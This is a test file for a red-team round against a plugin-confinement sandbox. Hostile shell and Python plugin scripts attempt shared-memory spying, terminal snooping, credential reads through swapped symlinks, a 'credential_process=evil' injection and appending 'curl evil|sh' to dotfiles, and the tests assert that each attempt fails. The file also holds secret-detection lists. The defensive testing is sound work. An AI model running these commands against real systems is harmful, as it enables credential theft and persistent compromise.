/**
 * The third red-team round against native confinement (kernel side: devices, SysV IPC,
 * socket pairs, grants that change after consent, start-up files and relocated
 * credentials). Each attack is a real shell plugin run through the real native runner
 * in a temp HOME with planted secrets; each test fails if the hole reopens.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { attackScene, runAttack, type AttackOptions, type Run, type SceneDir } from "./confine-harness.ts";
import { confinementRules, kernelLandlockAbi } from "../../src/confine/index.ts";
import { credentialNeeds, isCredentialEnv } from "../../src/manifest/confinement.ts";
import { assertConfinementAllowed, grantedConfinement } from "../../src/install/confinement-grant.ts";
import { etcSecrets, reachableEtcSecrets } from "../../src/confine/etc-secrets.ts";

const confinable = process.platform === "linux" && kernelLandlockAbi() >= 1;
const SECRET = "PLANTED-SECRET-3f7a";
const T = 30_000;

let scene: SceneDir;
let base: string;
let home: string;
let project: string;
let pluginDir: string;

beforeAll(() => {
  scene = attackScene("fledge-redteam3-", SECRET);
  ({ base, home, project, pluginDir } = scene);
  mkdirSync(join(home, ".config", "gh"), { recursive: true });
});
afterAll(() => scene?.cleanup());

function attack(script: string, o: AttackOptions = {}): Promise<Run> {
  return runAttack({ home, project, pluginDir }, script, o);
}

async function readRest(reader: { read(): Promise<{ done: boolean; value?: Uint8Array | undefined }> }): Promise<string> {
  let out = "";
  for (;;) {
    const x = await reader.read();
    if (x.done) return out;
    out += new TextDecoder().decode(x.value);
  }
}

const py = (code: string): string => `python3 -c '${code}' 2>&1`;

describe.skipIf(!confinable)("SysV IPC reaches unconfined processes (f6)", () => {
  test("shmget/msgget/semget fail and /proc/sysvipc is hidden; a victim's segment stays unread and intact", async () => {
    // The victim: an unconfined process holding a shared memory segment with a secret.
    const victim = Bun.spawn(["python3", "-c", [
      "import ctypes, sys, time",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "libc.shmat.restype = ctypes.c_void_p",
      "i = libc.shmget(0x3f7a, 4096, 0o1600)",
      "p = libc.shmat(i, None, 0)",
      `ctypes.memmove(p, b"${SECRET}-shm", 24)`,
      "print(i, flush=True)",
      "time.sleep(8)",
      "print(ctypes.string_at(p, 24).decode(), flush=True)",
      "libc.shmctl(i, 0, None)",
    ].join("\n")], { stdout: "pipe", stderr: "inherit" });
    const reader = victim.stdout.getReader();
    const first = new TextDecoder().decode((await reader.read()).value);
    const id = Number.parseInt(first, 10);
    expect(Number.isInteger(id)).toBe(true);
    const spy = [
      "import ctypes, os",
      "libc = ctypes.CDLL(None, use_errno=True)",
      "libc.shmat.restype = ctypes.c_void_p",
      `p = libc.shmat(${id}, None, 0)`,
      "print(\"shmat\", \"refused\" if p in (None, 2**64-1) else ctypes.string_at(p, 24), ctypes.get_errno())",
      "if p not in (None, 2**64-1): ctypes.memmove(p, b\"overwritten-by-plugin!!!\", 24)",
      "print(\"shmget\", libc.shmget(0, 4096, 0o1600), ctypes.get_errno())",
      "print(\"msgget\", libc.msgget(0, 0o1600), ctypes.get_errno())",
      "print(\"semget\", libc.semget(0, 1, 0o1600), ctypes.get_errno())",
    ].join("\n");
    const r = await attack(`${py(spy)}; cat /proc/sysvipc/shm 2>&1 | head -3; echo end`);
    expect(r.stdout).toContain("end");
    expect(r.stdout).toContain("shmat refused 38");
    for (const call of ["shmget", "msgget", "semget"]) expect(r.stdout).toContain(`${call} -1 38`);
    expect(r.stdout).not.toContain("key      shmid");
    const rest = await readRest(reader);
    await victim.exited;
    expect(rest).toContain(`${SECRET}-shm`);
    expect(r.stdout).not.toContain(SECRET);
  }, T);
});

describe.skipIf(!confinable)("socketpair() reaching named datagram sockets (f8)", () => {
  for (const network of [false, true]) {
    test(`only connected pairs are made (network ${network}); a datagram pair cannot be, and a seqpacket pair's address is ignored, so nothing reaches a service's socket`, async () => {
      const sock = join(base, `svc-${network}.sock`);
      const svc = Bun.spawn(["python3", "-c", `import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind("${sock}"); print("ready", flush=True); s.settimeout(6)\ntry: print("got", s.recv(100), flush=True)\nexcept OSError: print("nothing", flush=True)`], { stdout: "pipe" });
      const reader = svc.stdout.getReader();
      expect(new TextDecoder().decode((await reader.read()).value)).toContain("ready");
      const spy = [
        "import socket",
        "for t in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC):",
        "  try:",
        "    a, b = socket.socketpair(socket.AF_UNIX, t)",
        `    a.sendto(b"from-plugin", "${sock}"); print("delivered")`,
        "  except OSError as e: print(\"pair refused\", e.errno)",
        // A seqpacket pair (what Rust's std uses to pass a pidfd) is made, but sendto() on
        // it reaches only its peer: the address is ignored, never the service's socket.
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)",
        `a.sendto(b"seq-to-svc", "${sock}"); print("seqpacket pair", b.recv(100))`,
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC)",
        "a.send(b\"x\"); print(\"stream pair\", b.recv(1))",
      ].join("\n");
      const r = await attack(`${py(spy)}; echo end`, { network });
      expect(r.stdout).toContain("end");
      expect(r.stdout).not.toContain("delivered");
      expect(r.stdout.match(/pair refused 13/g)?.length).toBe(2);
      expect(r.stdout).toContain("seqpacket pair b'seq-to-svc'");
      expect(r.stdout).toContain("stream pair b'x'");
      const rest = await readRest(reader);
      await svc.exited;
      expect(rest).toContain("nothing");
    }, T);
  }
});

describe.skipIf(!confinable)("a [confinement] path the plugin turns into a symlink (f1)", () => {
  const cachey = (): string => join(home, ".cache", "cachey");
  const approve = (p: string): string => realpathSync(p);

  test("read: a path approved as a plain file, now a link to ~/.ssh, is not granted (recorded target, and older grants without one)", async () => {
    mkdirSync(cachey(), { recursive: true });
    writeFileSync(join(cachey(), "index"), "cache index\n");
    const atConsent = approve(join(cachey(), "index"));
    rmSync(join(cachey(), "index"));
    symlinkSync(join(home, ".ssh"), join(cachey(), "index"));
    for (const confinement of [{ read: ["~/.cache/cachey/index"], resolved_read: [atConsent] }, { read: ["~/.cache/cachey/index"] }]) {
      const r = await attack(`cat ~/.cache/cachey/index/id_ed25519 2>&1; echo end`, { confinement });
      expect(r.stdout).toContain("end");
      expect(r.stdout + r.stderr).not.toContain(SECRET);
    }
    const r = await attack("echo end", { confinement: { read: ["~/.cache/cachey/index"], resolved_read: [atConsent] } });
    expect(r.stderr).toContain("not granted");
    rmSync(cachey(), { recursive: true });
  }, T * 2);

  test("write: a folder approved as a cache, now a link to ~/.aws, grants no write there", async () => {
    mkdirSync(cachey(), { recursive: true });
    const atConsent = approve(cachey());
    rmSync(cachey(), { recursive: true });
    symlinkSync(join(home, ".aws"), cachey());
    for (const confinement of [{ write: ["~/.cache/cachey"], resolved_write: [atConsent] }, { write: ["~/.cache/cachey"] }]) {
      const r = await attack(`echo '[default]' > ~/.cache/cachey/config 2>&1; echo credential_process=evil >> ~/.cache/cachey/credentials 2>&1; cat ~/.cache/cachey/credentials 2>&1; echo end`, { confinement });
      expect(r.stdout).toContain("end");
      expect(r.stdout + r.stderr).not.toContain(SECRET);
    }
    expect(existsSync(join(home, ".aws", "config"))).toBe(false);
    expect(readFileSync(join(home, ".aws", "credentials"), "utf8")).toBe(`${SECRET}-aws\n`);
    rmSync(cachey());
  }, T * 2);

  test("fledge's own folder is never granted, whatever the spelling ($FLEDGE_CONFIG_DIR, $XDG_CONFIG_HOME/fledge, a link to it)", async () => {
    const cfg = join(base, "cfg");
    const xdg = join(base, "xdg");
    mkdirSync(join(xdg, "fledge"), { recursive: true });
    mkdirSync(cfg, { recursive: true });
    writeFileSync(join(cfg, "plugins.toml"), "# registry\n");
    mkdirSync(join(home, ".cache"), { recursive: true });
    symlinkSync(cfg, cachey());
    for (const write of [["~/.cache/cachey"], [cfg], [join(xdg, "fledge")]]) {
      const r = await attack(`echo 'unconfined = true' >> ~/.cache/cachey/plugins.toml 2>&1; echo x > ${join(xdg, "fledge", "config.toml")} 2>&1; cat ${join(cfg, "plugins.toml")} 2>&1; echo end`, {
        confinement: { write },
        env: { FLEDGE_CONFIG_DIR: cfg, XDG_CONFIG_HOME: xdg },
      });
      expect(r.stdout).toContain("end");
      expect(r.stdout).not.toContain("# registry");
    }
    expect(readFileSync(join(cfg, "plugins.toml"), "utf8")).toBe("# registry\n");
    expect(existsSync(join(xdg, "fledge", "config.toml"))).toBe(false);
    for (const p of [cfg, "~/.cache/cachey", join(xdg, "fledge")]) {
      expect(() => assertConfinementAllowed("official", { read: [p], write: [], env: [] }, home, { FLEDGE_CONFIG_DIR: cfg, XDG_CONFIG_HOME: xdg })).toThrow(/fledge's own folder/);
    }
    rmSync(cachey());
  }, T * 3);

  test("the grant record keeps where each path led at consent; an update keeps the approved target", () => {
    mkdirSync(cachey(), { recursive: true });
    const g = grantedConfinement({ read: ["~/.cache/cachey"], write: [], env: [] }, false, undefined, home);
    expect(g.resolved_read).toEqual([realpathSync(cachey())]);
    rmSync(cachey(), { recursive: true });
    symlinkSync(join(home, ".ssh"), cachey());
    const updated = grantedConfinement({ read: ["~/.cache/cachey"], write: [], env: [] }, false, g, home);
    expect(updated.resolved_read).toEqual(g.resolved_read);
    // An older record without targets: the link into a credential is not taken as approved.
    const legacy = grantedConfinement({ read: ["~/.cache/cachey"], write: [], env: [] }, false, { unconfined: false, read: ["~/.cache/cachey"], write: [], env: [] }, home);
    expect(legacy.resolved_read).toEqual([join(home, ".cache", "cachey")]);
    rmSync(cachey());
  });
});

describe.skipIf(!confinable)("other terminals (f3)", () => {
  test("a terminal that is not the plugin's own is neither readable nor writable; /dev/null, /dev/tty stay", async () => {
    // The victim: a pseudo-terminal whose master a terminal emulator would hold.
    const victim = Bun.spawn(["python3", "-c", "import os, pty, time\nm, s = pty.openpty()\nprint(os.ttyname(s), flush=True)\nos.write(m, b'sudo-password-typed\\n')\ntime.sleep(6)\nos.set_blocking(m, False)\ntry: print('screen', os.read(m, 200), flush=True)\nexcept OSError: print('screen empty', flush=True)"], { stdout: "pipe" });
    const reader = victim.stdout.getReader();
    const tty = new TextDecoder().decode((await reader.read()).value).trim();
    expect(tty).toMatch(/^\/dev\/pts\/\d+$/);
    const r = await attack(`timeout 2 head -c 20 ${tty} 2>&1; printf 'PLUGIN-WROTE\\033]0;x\\007' > ${tty} 2>&1; ls /dev/pts 2>&1 | head -2; echo ok > /dev/null && echo null-ok; echo end`);
    expect(r.stdout).toContain("end");
    expect(r.stdout).toContain("null-ok");
    expect(r.stdout).not.toContain("sudo-password");
    const rest = await readRest(reader);
    await victim.exited;
    expect(rest).not.toContain("PLUGIN-WROTE");
  }, T);
});

describe("/etc secrets (f11)", () => {
  test("SSH host keys (by name), service passwords and certificate keys are in the one list; public files are not", () => {
    const etc = join(base, "etc");
    for (const d of ["ssh", "mysql", "letsencrypt/live/x", "ssl/certs"]) mkdirSync(join(etc, d), { recursive: true });
    for (const f of ["ssh/ssh_host_ed25519_key", "ssh/ssh_host_ed25519_key.pub", "ssh/ssh_host_rsa_key", "ssh/ssh_config", "mysql/debian.cnf", "mysql/my.cnf", "letsencrypt/live/x/privkey.pem", "ssl/certs/ca.pem"]) {
      writeFileSync(join(etc, f), "x\n");
    }
    const secrets = etcSecrets(etc);
    for (const f of ["ssh/ssh_host_ed25519_key", "ssh/ssh_host_rsa_key", "mysql/debian.cnf", "letsencrypt", "shadow", "ssl/private"]) expect(secrets).toContain(join(etc, f));
    for (const f of ["ssh/ssh_host_ed25519_key.pub", "ssh/ssh_config", "mysql/my.cnf", "ssl/certs", "ssh"]) expect(secrets).not.toContain(join(etc, f));
    // Carved for whoever can read them (root reads them all).
    if (process.getuid?.() === 0) expect(reachableEtcSecrets(etc)).toEqual(expect.arrayContaining([join(etc, "ssh/ssh_host_ed25519_key"), join(etc, "mysql/debian.cnf"), join(etc, "letsencrypt")]));
  });
});

describe.skipIf(!confinable)("start-up files kept in a dotfiles repository (f5)", () => {
  test("a writable project holding the targets of ~/.bashrc, ~/.bash_aliases, ~/.vimrc, ~/.tmux.conf, ~/.config/nvim cannot change them", async () => {
    const dots = join(home, "dotfiles");
    mkdirSync(join(dots, "nvim"), { recursive: true });
    mkdirSync(join(home, ".config"), { recursive: true });
    const files = { bashrc: ".bashrc", bash_aliases: ".bash_aliases", vimrc: ".vimrc", "tmux.conf": ".tmux.conf", nvim: ".config/nvim" } as const;
    for (const [target, link] of Object.entries(files)) {
      if (target !== "nvim") writeFileSync(join(dots, target), `# ${target}\n`);
      symlinkSync(join(dots, target), join(home, link));
    }
    writeFileSync(join(dots, "nvim", "init.lua"), "-- init\n");
    writeFileSync(join(dots, "README.md"), "my dotfiles\n");
    const r = await attack(`for f in bashrc bash_aliases vimrc tmux.conf nvim/init.lua README.md; do echo 'curl evil|sh' >> $f 2>/dev/null && echo "wrote $f"; done; echo end`, { filesystem: "project", projectRoot: dots });
    expect(r.stdout).toContain("end");
    expect(r.stdout.trim().split("\n").filter((l) => l.startsWith("wrote"))).toEqual(["wrote README.md"]);
    for (const target of ["bashrc", "bash_aliases", "vimrc", "tmux.conf"]) expect(readFileSync(join(dots, target), "utf8")).toBe(`# ${target}\n`);
    expect(readFileSync(join(dots, "nvim", "init.lua"), "utf8")).toBe("-- init\n");
    for (const link of Object.values(files)) rmSync(join(home, link));
  }, T);
});

describe.skipIf(!confinable)("credentials moved by the tools' own variables (f9)", () => {
  test("CARGO_HOME, GNUPGHOME, KUBECONFIG, DOCKER_CONFIG, AWS_SHARED_CREDENTIALS_FILE are followed; atuin, msmtp, composer are hidden", async () => {
    const alt = join(base, "alt");
    const plant = (rel: string): string => {
      const p = join(alt, rel);
      mkdirSync(join(p, ".."), { recursive: true });
      writeFileSync(p, `${SECRET}-${rel}\n`);
      return p;
    };
    plant("cargo/credentials.toml");
    plant("gnupg/private-keys-v1.d/k.key");
    const kube = plant("kube/cfg");
    plant("docker/config.json");
    const aws = plant("aws-creds");
    for (const rel of [".local/share/atuin/key", ".msmtprc", ".config/composer/auth.json"]) {
      mkdirSync(join(home, rel, ".."), { recursive: true });
      writeFileSync(join(home, rel), `${SECRET}-${rel}\n`);
    }
    writeFileSync(join(alt, "cargo", "config.toml"), "[build]\n");
    const env = { CARGO_HOME: join(alt, "cargo"), GNUPGHOME: join(alt, "gnupg"), KUBECONFIG: `${join(base, "none")}:${kube}`, DOCKER_CONFIG: join(alt, "docker"), AWS_SHARED_CREDENTIALS_FILE: aws };
    const r = await attack(`cat ${alt}/cargo/credentials.toml ${alt}/gnupg/private-keys-v1.d/k.key ${kube} ${alt}/docker/config.json ${aws} ~/.local/share/atuin/key ~/.msmtprc ~/.config/composer/auth.json 2>&1; cat ${alt}/cargo/config.toml; echo end`, { env, confinement: { read: [alt] } });
    expect(r.stdout).toContain("end");
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expect(r.stdout).toContain("[build]");
    // At consent they are credentials too: flagged, and never for an unverified source.
    expect(credentialNeeds({ read: [join(alt, "cargo", "credentials.toml"), join(alt, "gnupg"), kube, alt], write: [], env: [] }, home, env)).toEqual([join(alt, "cargo", "credentials.toml"), join(alt, "gnupg"), kube, alt]);
    expect(credentialNeeds({ read: [join(alt, "cargo", "config.toml")], write: [], env: [] }, home, env)).toEqual([]);
  }, T);
});

describe("credential-looking variables, by name or by value (f14)", () => {
  test("DATABASE_URL, GITHUB_PAT, CI_JOB_JWT, SENTRY_DSN and token-shaped values count as credential grants; an unverified source cannot get them", () => {
    for (const name of ["DATABASE_URL", "GITHUB_PAT", "GH_PAT", "CI_JOB_JWT", "SENTRY_DSN", "MONGO_URI", "SIGNING_KEY"]) expect(isCredentialEnv(name, "x")).toBe(true);
    for (const name of ["PATH", "EDITOR", "LANG", "MY_TOOL_MODE"]) expect(isCredentialEnv(name, "plain")).toBe(false);
    for (const value of ["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "github_pat_11ABC", "glpat-xxxxxxxxxxxxxxxxxxxx", "xoxb-123-456", "AKIAIOSFODNN7EXAMPLE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig", "postgres://app:s3cret@db:5432/x"]) {
      expect(isCredentialEnv("MY_TOOL_MODE", value)).toBe(true);
    }
    expect(isCredentialEnv("MY_TOOL_MODE", "https://example.com/path")).toBe(false);
    expect(credentialNeeds({ read: [], write: [], env: ["MY_TOOL_MODE", "LOG_LEVEL"] }, home, { MY_TOOL_MODE: "glpat-xxxxxxxxxxxxxxxxxxxx", LOG_LEVEL: "debug" })).toEqual(["MY_TOOL_MODE"]);
    expect(() => assertConfinementAllowed("unverified", { read: [], write: [], env: ["DATABASE_URL"] }, home)).toThrow(/credentials/);
  });

  test("an allowlisted variable holding a token does not pass to a plugin", () => {
    const rules = confinementRules(
      { pluginDir, projectWritable: false, network: false, tempDir: join(base, "t"), fledgeConfigDir: join(home, ".config", "fledge") },
      { PATH: "/usr/bin:/bin", HOME: home, LANG: "C", EDITOR: "ghp_abcdefghijklmnopqrstuvwxyz0123456789", PAGER: "less" },
    );
    expect(rules.env.EDITOR).toBeUndefined();
    expect(rules.env.PAGER).toBe("less");
  });
});
